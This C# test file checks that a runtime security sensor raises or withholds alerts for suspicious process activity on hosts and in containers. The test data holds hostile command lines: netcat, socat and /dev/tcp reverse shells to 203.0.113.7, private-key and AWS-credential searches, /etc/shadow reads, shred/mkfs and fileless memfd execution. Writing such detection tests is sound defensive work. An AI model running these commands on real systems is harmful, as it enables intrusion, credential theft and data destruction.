using Xunit;

namespace Peregrine.LiveTests.Reference;

/// <summary>Rules about programs that start, on the host and in a container.</summary>
[Collection(RuleCollection.Name)]
public sealed class ProcessRules(RuleSensor sensor)
{
    [Theory]
    [InlineData("Run shell untrusted", "{nginx} child /bin/sh -c 'echo x; true'", "proc.name=sh; proc.pname=nginx; proc.aname[2]=bash")]
    [InlineData("Run shell untrusted", "{redis-server} child {deeds} child /bin/bash -c 'true; true'", "proc.name=bash; proc.pname=deeds; proc.aname[2]=redis-server")]
    [InlineData("Run shell untrusted", "{mongod} vfork /bin/dash -c true", "proc.name=dash; proc.pname=mongod")]
    [InlineData("System user interactive", "{sshd} child {deeds} as-user 1 program /bin/true true", "proc.name=true; user.name=daemon; proc.pname=sshd")]
    [InlineData("Search Private Keys or Passwords", "find {dir} -name id_ed25519", "proc.name=find; proc.cmdline=find {dir} -name id_ed25519")]
    [InlineData("Search Private Keys or Passwords", "grep -r 'BEGIN RSA PRIVATE' {dir}", "proc.name=grep")]
    [InlineData("Search Private Keys or Passwords", "{fgrep} 'begin openssh private' x", "proc.name=fgrep")]
    [InlineData("Find AWS Credentials", "grep -r AWS_Secret_Access_Key {dir}", "proc.name=grep")]
    [InlineData("Find AWS Credentials", "cd {dir}; find . -path ./.aws/credentials", "proc.name=find; proc.cwd={dir}/")]
    [InlineData("Remove Bulk Data from Disk", "echo > {dir}/x; shred -u {dir}/x", "proc.name=shred; proc.cmdline=shred -u {dir}/x")]
    [InlineData("Remove Bulk Data from Disk", "{mkfs} nothing", "proc.name=mkfs")]
    [InlineData("Execution from /dev/shm", "cp {deeds} /dev/shm/live-test; /dev/shm/live-test nothing; rm /dev/shm/live-test", "proc.exe=/dev/shm/live-test; proc.name=live-test; proc.exepath=/dev/shm/live-test")]
    [InlineData("Execution from /dev/shm", "cp {deeds} /dev/shm/live-test; (mkdir -p /dev/shm/live; cd /dev/shm/live; ../live-test nothing; cp {deeds} x; ./x nothing); rm -r /dev/shm/live-test /dev/shm/live", "proc.exe=./x; proc.cwd=/dev/shm/live/")]
    [InlineData("Execution from /dev/shm", "printf 'true\\n' > /dev/shm/live-test.sh; sh /dev/shm/live-test.sh; rm /dev/shm/live-test.sh", "proc.name=sh; proc.args=/dev/shm/live-test.sh")]
    [InlineData("Execution from /dev/shm", "bash -c /dev/shm/live-test-absent", "proc.name=bash")]
    [InlineData("Fileless execution via memfd_create", "{deeds} exec-memfd ghost {deeds} nothing", "proc.exepath=memfd:ghost; proc.is_exe_from_memfd=True")]
    [InlineData("Fileless execution via memfd_create", "{deeds} in-thread exec-memfd ghost {deeds} nothing", "proc.exepath=memfd:ghost")]
    [InlineData("DB program spawned process", "{mysqld} child /bin/ls /", "proc.name=ls; proc.pname=mysqld")]
    [InlineData("DB program spawned process", "{postgres} child /bin/sh -c true", "proc.name=sh; proc.pname=postgres")]
    [InlineData("Program run with disallowed http proxy env", "http_proxy=http://203.0.113.7 {curl} nothing", "proc.name=curl")]
    [InlineData("User mgmt binaries", "{useradd} nothing", "proc.name=useradd; container.id=host")]
    [InlineData("User mgmt binaries", "{vipw} nothing", "proc.name=vipw")]
    [InlineData("Launch Suspicious Network Tool on Host", "{nmap} nothing", "proc.name=nmap")]
    [InlineData("Launch Suspicious Network Tool on Host", "{deeds} program {tcpdump} tcpdump -i lo", "proc.name=tcpdump; proc.cmdline=tcpdump -i lo")]
    [InlineData("Potential Local Privilege Escalation via Environment Variables Misuse", "GLIBC_TUNABLES=glibc.malloc.check=1 /bin/true", "proc.name=true")]
    [InlineData("Detect crypto miners using the Stratum protocol", "/bin/echo -o stratum+tcp://pool.example:3333", "proc.name=echo; proc.cmdline=echo -o stratum+tcp://pool.example:3333")]
    [InlineData("Detect crypto miners using the Stratum protocol", "{deeds} nothing stratum2+ssl://pool.example:3333", "proc.name=deeds")]
    [InlineData("Sudo Potential Privilege Escalation", "{sudoedit} -s 'x\\'", "proc.name=sudoedit; proc.args=-s x\\")]
    [InlineData("Sudo Potential Privilege Escalation", "{deeds} program {sudo} sudoedit -i 'x\\ y'", "proc.name=sudo")]
    [InlineData("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "{pkexec}", "proc.name=pkexec; proc.args=")]
    [InlineData("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "{deeds} program {pkexec}", "proc.name=pkexec; proc.args=")]
    [InlineData("Basic Interactive Reconnaissance", "{deeds} pty {whoami} nothing", "proc.name=whoami")]
    [InlineData("Basic Interactive Reconnaissance", "{deeds} pty /usr/bin/uname -a", "proc.name=uname; proc.cmdline=uname -a")]
    [InlineData("Basic Interactive Reconnaissance", "{deeds} pty /bin/bash -ic 'id; true'", "proc.name=id; proc.pname=bash")]
    [InlineData("Netcat/Socat Remote Code Execution on Host", "{nc} -e /bin/sh 203.0.113.7 99", "proc.name=nc; proc.cmdline=nc -e /bin/sh 203.0.113.7 99")]
    [InlineData("Netcat/Socat Remote Code Execution on Host", "{ncat} --sh-exec id 203.0.113.7 99", "proc.name=ncat")]
    [InlineData("Netcat/Socat Remote Code Execution on Host", "{socat} TCP:203.0.113.7:99 EXEC:/bin/sh", "proc.name=socat")]
    [InlineData("Known Cryptominer Process Executed", "{xmrig} nothing", "proc.name=xmrig")]
    [InlineData("Web Server Spawned Shell", "{apache2} child /bin/bash -c 'true; true'", "proc.name=bash; proc.pname=apache2")]
    [InlineData("Web Server Spawned Shell", "{php-fpm} child {deeds} child {deeds} child /bin/sh -c true", "proc.name=sh; proc.aname[3]=php-fpm")]
    [InlineData("Web Server Spawned Suspicious Child Process", "{nginx} child /usr/bin/id", "proc.name=id; proc.pname=nginx")]
    [InlineData("Web Server Spawned Suspicious Child Process", "{gunicorn} child {deeds} child {wget} nothing", "proc.name=wget; proc.aname[2]=gunicorn")]
    [InlineData("Reverse Shell from Web Server", "{httpd} child /bin/bash -c 'true bash -i >& /dev/tcp/203.0.113.7/99 0>&1; true'", "proc.name=bash; proc.pname=httpd")]
    [InlineData("Schedule Cron Jobs", "{crontab} nothing", "proc.name=crontab")]
    [InlineData("Run shell untrusted", "{nginx} child /usr/bin/perl -e 'system(q(echo x; true))'", "proc.name=sh; proc.pname=perl; proc.aname[2]=nginx")]
    [InlineData("Run shell untrusted", "printf '#!/bin/sh\\ntrue\\n' > {dir}/s; chmod +x {dir}/s; {nginx} child {dir}/s; {nginx} child /bin/sh {dir}/s", "proc.name=sh; proc.pname=nginx")]
    [InlineData("Known Cryptominer Process Executed", "setsid -w {xmrig} nothing", "proc.name=xmrig")]
    [InlineData("Known Cryptominer Process Executed", "(exec -a kworker {minerd} nothing)", "proc.name=minerd; proc.exe=kworker")]
    [InlineData("Launch Suspicious Network Tool on Host", "perl -e 'system(\"{nmap}\", \"nothing\")'", "proc.name=nmap; proc.pname=perl")]
    [InlineData("DB program spawned process", "{mysqld} in-thread child /bin/true", "proc.name=true; proc.pname=mysqld")]
    public void OnTheHost(string rule, string line, string says) => sensor.Expect(rule, sensor.OnTheHost(line), says);

    [Theory]
    [InlineData("Netcat Remote Code Execution in Container", "/bin/nc -e /bin/sh 203.0.113.7 99", "proc.name=nc; proc.cmdline=nc -e /bin/sh 203.0.113.7 99; proc.exepath=/bin/deeds")]
    [InlineData("Netcat Remote Code Execution in Container", "ncat --exec /bin/sh 203.0.113.7 99", "proc.name=ncat")]
    [InlineData("Drop and execute new binary in container", "cp /bin/deeds {dir}/dropped; {dir}/dropped nothing", "proc.name=dropped; proc.exepath={dir}/dropped; proc.is_exe_upper_layer=True")]
    [InlineData("Drop and execute new binary in container", "cp /bin/deeds {dir}/dropped; cd {dir}; {deeds} exec-at {dir} dropped nothing", "proc.name=dropped; proc.exepath={dir}/dropped")]
    [InlineData("Drop and execute new binary in container", "cp /bin/deeds {dir}/dropped; ln -s dropped {dir}/link; {dir}/link nothing", "proc.name=link; proc.exepath={dir}/dropped")]
    [InlineData("Drop and execute new binary in container", "echo '#!/bin/sh' > {dir}/s; cp /bin/busybox {dir}/sh; {dir}/sh {dir}/s", "proc.name=sh; proc.exepath={dir}/sh")]
    [InlineData("Launch Package Management Process in Container", "apt-get nothing", "proc.name=apt-get")]
    [InlineData("Launch Package Management Process in Container", "apk add x", "proc.name=apk")]
    [InlineData("Launch Package Management Process in Container", "pip nothing", "proc.name=pip")]
    [InlineData("Launch Suspicious Network Tool in Container", "tcpdump nothing", "proc.name=tcpdump")]
    [InlineData("Launch Suspicious Network Tool in Container", "{deeds} vfork /bin/nmap", "proc.name=nmap; proc.pname=deeds")]
    [InlineData("Launch Remote File Copy Tools in Container", "scp x y", "proc.name=scp")]
    [InlineData("Launch Remote File Copy Tools in Container", "rsync x y", "proc.name=rsync")]
    [InlineData("Launch Ingress Remote File Copy Tools in Container", "/bin/wget http://203.0.113.7", "proc.name=wget")]
    [InlineData("Launch Ingress Remote File Copy Tools in Container", "curl -o /tmp/x http://203.0.113.7", "proc.name=curl; proc.cmdline=curl -o /tmp/x http://203.0.113.7")]
    [InlineData("Kubernetes Client Tool Launched in Container", "kubectl get pods", "proc.name=kubectl; proc.cmdline=kubectl get pods")]
    [InlineData("Kubernetes Client Tool Launched in Container", "crictl ps", "proc.name=crictl")]
    [InlineData("Decoding Payload in Container", "/bin/base64 nothing -d", "proc.name=base64")]
    [InlineData("Decoding Payload in Container", "{deeds} nothing base64 --decode", "proc.name=deeds")]
    [InlineData("Network Tool Executed During NPM Package Install", "npm child /bin/nc nothing", "proc.name=nc; proc.pname=npm")]
    [InlineData("Network Tool Executed During NPM Package Install", "npm child /bin/node child /bin/socat nothing", "proc.name=socat; proc.aname[2]=npm")]
    [InlineData("Run shell untrusted", "nginx child /bin/sh -c 'echo x; true'", "proc.name=sh; proc.pname=nginx")]
    [InlineData("Search Private Keys or Passwords", "/bin/find /tmp -name id_rsa", "proc.name=find")]
    [InlineData("Known Cryptominer Process Executed", "xmrig nothing", "proc.name=xmrig")]
    [InlineData("Web Server Spawned Shell", "nginx child /bin/sh -c true", "proc.name=sh; proc.pname=nginx")]
    [InlineData("Fileless execution via memfd_create", "{deeds} exec-memfd ghost /bin/deeds nothing", "proc.exepath=memfd:ghost")]
    [InlineData("Drop and execute new binary in container", "cp /bin/deeds /bin/replaced; chmod 755 /bin/replaced; /bin/replaced nothing", "proc.name=replaced")]
    [InlineData("Drop and execute new binary in container", "cp /bin/deeds {dir}/a; mv {dir}/a {dir}/b; {dir}/b nothing", "proc.name=b; proc.exepath={dir}/b")]
    [InlineData("Drop and execute new binary in container", "cp /bin/deeds {dir}/a; ln {dir}/a {dir}/b; {deeds} vfork {dir}/b nothing", "proc.name=b")]
    [InlineData("Drop and execute new binary in container", "mkdir /dev/shm/x; cp /bin/deeds {dir}/a; {deeds} in-thread program {dir}/a a nothing", "proc.name=a")]
    [InlineData("Read sensitive file untrusted", "cd /etc; /bin/cat shadow", "proc.name=cat; fd.name=/etc/shadow")]
    public void InAContainer(string rule, string line, string says) => sensor.Expect(rule, sensor.InAContainer(line, ContainerKind.Plain), says);

    [Theory]
    [InlineData("Run shell untrusted", "{nginx} child /bin/ls /")]
    [InlineData("Run shell untrusted", "{nginx} child /bin/bash -c 'sh -c true; true'", "sh -c true")]
    [InlineData("Launch Suspicious Network Tool in Container", "{nmap} nothing")]
    [InlineData("Drop and execute new binary in container", "cp {deeds} {dir}/x; {dir}/x nothing")]
    [InlineData("Execution from /dev/shm", "ls /dev/shm")]
    [InlineData("Fileless execution via memfd_create", "{deeds} nothing")]
    [InlineData("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "{pkexec} nothing")]
    [InlineData("Basic Interactive Reconnaissance", "id")]
    [InlineData("Web Server Spawned Shell", "{nginx} child /bin/bash -c 'true healthcheck'")]
    [InlineData("Netcat/Socat Remote Code Execution on Host", "{nc} 203.0.113.7 99")]
    [InlineData("Sudo Potential Privilege Escalation", "{sudo} -s x")]
    [InlineData("User mgmt binaries", "{chage} -l root")]
    public void Nothing(string rule, string line, string? about = null) => sensor.ExpectNone(rule, sensor.OnTheHost(line), about);

    [Theory]
    [InlineData("Drop and execute new binary in container", "deeds nothing; cat /etc/passwd")]
    [InlineData("Terminal shell in container", "sh -c true")]
    [InlineData("Launch Suspicious Network Tool on Host", "nmap nothing")]
    [InlineData("Launch Package Management Process in Container", "apt-get child /bin/dpkg nothing", "dpkg nothing")]
    public void NothingInAContainer(string rule, string line, string? about = null) => sensor.ExpectNone(rule, sensor.InAContainer(line, ContainerKind.Plain), about);

    [Fact]
    public void AShellOnATerminalOfAContainer()
    {
        var deed = sensor.OnATerminal("echo; true");
        var alert = sensor.Expect("Terminal shell in container", deed, "proc.name=sh; proc.pname=runc");
        Assert.NotEqual("0", alert["proc.tty"]);
    }

    [Theory]
    [InlineData("Launch Excessively Capable Container", ContainerKind.Privileged)]
    [InlineData("Launch Privileged Container", ContainerKind.Privileged)]
    [InlineData("Launch Sensitive Mount Container", ContainerKind.Plain)]
    [InlineData("Container Run as Root User", ContainerKind.Plain)]
    public void AContainerThatStarts(string rule, ContainerKind kind)
    {
        var id = sensor.Containers.Id(kind);
        sensor.Sensor.Expect(rule, a => a["container.id"] == id && a["proc.vpid"] == "1" && a["proc.cmdline"] == "sleep 3600");
    }

    [Theory]
    [InlineData("Launch Excessively Capable Container")]
    [InlineData("Launch Privileged Container")]
    public void AContainerWithLimitsThatStarts(string rule)
    {
        AContainerThatStarts("Container Run as Root User", ContainerKind.Plain);
        sensor.ExpectNone(rule, sensor.InAContainer("true", ContainerKind.Plain));
        Assert.Empty(sensor.Sensor.Alerts(a => a.Rule == rule && a["container.id"] == sensor.Containers.Id(ContainerKind.Plain)));
    }
}
